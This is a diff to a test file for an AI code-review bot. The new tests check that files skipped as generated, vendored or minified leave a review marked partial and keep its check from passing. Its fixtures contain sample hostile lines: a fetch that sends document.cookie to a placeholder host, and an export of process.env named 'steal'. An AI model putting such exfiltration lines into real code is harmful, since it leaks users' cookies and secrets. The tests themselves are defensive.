@@ -12,6 +12,9 @@ import { checkoutFork } from "../support/clone-cache-harness.js";
 import { createUpstream } from "../support/git-fixture.js";
 import { reply, startModelStandIn, type ModelStandIn, type ModelStandInRequest } from "@reviewbot/llm/testing/model-stand-in";
 import { useTempDirs } from "../support/temp-dirs.js";
+import { DEFAULT_AI_SKIP_RULES, type AiSkipRules } from "@reviewbot/policy/ai-skip-rules";
+import { decideConclusion } from "@reviewbot/github/render-check-run";
+import { EMPTY_REPORT } from "../api/published-reports.js";
 
 const tempDir = useTempDirs();
 const MODEL = "loop-model";
@@ -43,7 +46,7 @@ function model(key = KEY): ChatModel {
   return { model: MODEL, complete: (request, signal) => client.complete(request, signal) };
 }
 
-async function review(checkout: Checkout, options: Partial<AiReviewOptions> = {}): Promise<AiReport> {
+async function review(checkout: Checkout, options: Partial<AiReviewOptions> = {}, skipRules: AiSkipRules = DEFAULT_AI_SKIP_RULES): Promise<AiReport> {
   const reviewer = createAiReviewer({
     model: model(),
     tokensLeft: () => 1_000_000,
@@ -58,6 +61,7 @@ async function review(checkout: Checkout, options: Partial<AiReviewOptions> = {}
     return await reviewer({
       checkout,
       lineText: blobLines(repoSourceOf(checkout), checkout.diff),
+      skipRules,
       helpers: [],
       runHelper: () => Promise.reject(new Error("no helpers here")),
       context: null,
@@ -174,7 +178,8 @@ describe("the AI review loop against a stand-in model", () => {
     const first = await review(await pull(files), { contextTokens: 4000, cache });
     const calls = since(before).length;
     expect(calls).toBeGreaterThanOrEqual(4);
-    expect(first).toMatchObject({ status: "done", summary: "The whole PR.", coverage: { files: 4, reviewedFiles: 3 } });
+    // The lockfile was not read: the review vouches for three of the four files.
+    expect(first).toMatchObject({ status: "partial", summary: "The whole PR.", coverage: { files: 4, reviewedFiles: 3 } });
     expect(first.coverage.skipped).toEqual([{ path: "package-lock.json", reason: "lockfile" }]);
     expect(stored.size).toBe(calls - 1);
 
@@ -198,6 +203,49 @@ describe("the AI review loop against a stand-in model", () => {
     expect(report.summary).toBe("One bug.");
   });
 
+  // The PR author names the files: a file called *.min.js, put under vendor/ or opened with an
+  // @generated line used to be skipped without a trace in the status, and a PR of nothing else
+  // passed its check as a "done" review the model never read.
+  it.each([
+    [
+      "every changed file opening with an @generated line",
+      { "src/evil.ts": "// @generated\nexport const steal = process.env;\n", "src/more.ts": "/* @generated */\nexport const x = 1;\n" },
+    ],
+    [
+      "every changed file under vendor/ or named *.min.js",
+      { "vendor/lib/evil.ts": "export const steal = process.env;\n", "src/app.min.js": "fetch('https://x.example/' + document.cookie);\n" },
+    ],
+  ])("a PR of %s is at most partial, its check not success, and the model is not asked", async (_name, files) => {
+    const before = standIn.modelRequests().length;
+    const report = await review(await pull(files));
+    expect(since(before)).toHaveLength(0);
+    expect(report).toMatchObject({ status: "partial", coverage: { reviewedFiles: 0 } });
+    expect(report.coverage.skipped).toHaveLength(2);
+    expect(report.note).toContain("did not read 2");
+    expect(decideConclusion({ ...EMPTY_REPORT, ai: report }).conclusion).not.toBe("success");
+  });
+
+  it("honours the maintainers' own .ai/ rule: the path they chose is skipped, the rest read; turning the marker off has the model read @generated files", async () => {
+    standIn.script(() => reply.toolCall("submit_review", { summary: "Read.", findings: [] }));
+    const files = { "fixtures/big.json": '{"a": 1}\n', "src/a.ts": "// @generated\nexport const a = 1;\n" };
+    const before = standIn.modelRequests().length;
+    const report = await review(await pull(files), {}, { defaults: true, generatedMarker: false, paths: ["fixtures/**"] });
+    expect(report.coverage.skipped).toEqual([{ path: "fixtures/big.json", reason: "skipped by .ai/ rule fixtures/**" }]);
+    expect(report).toMatchObject({ status: "partial", coverage: { reviewedFiles: 1 } });
+    const asked = since(before)
+      .map((request) => request.bodyText)
+      .join("\n");
+    expect(asked).toContain("src/a.ts");
+    expect(asked).not.toContain("fixtures/big.json");
+  });
+
+  it("negative control: a PR whose every changed file the model read is done, and its check can pass", async () => {
+    standIn.script(() => reply.toolCall("submit_review", { summary: "Fine.", findings: [] }));
+    const report = await review(await pull({ "src/a.ts": "export const a = 1;\n", "src/b.ts": "export const b = 2;\n" }));
+    expect(report).toMatchObject({ status: "done", note: null, coverage: { reviewedFiles: 2, skipped: [] } });
+    expect(decideConclusion({ ...EMPTY_REPORT, ai: report }).conclusion).toBe("success");
+  });
+
   it("an abort stops a model call in flight", async () => {
     standIn.script([{ ...SUBMIT, delayMs: 5000 }]);
     const controller = new AbortController();
@@ -219,6 +267,7 @@ describe("the AI review loop against a stand-in model", () => {
       reviewer({
         checkout,
         lineText: blobLines(repoSourceOf(checkout), checkout.diff),
+        skipRules: DEFAULT_AI_SKIP_RULES,
         helpers: [],
         runHelper: () => Promise.reject(new Error("none")),
         context: null,
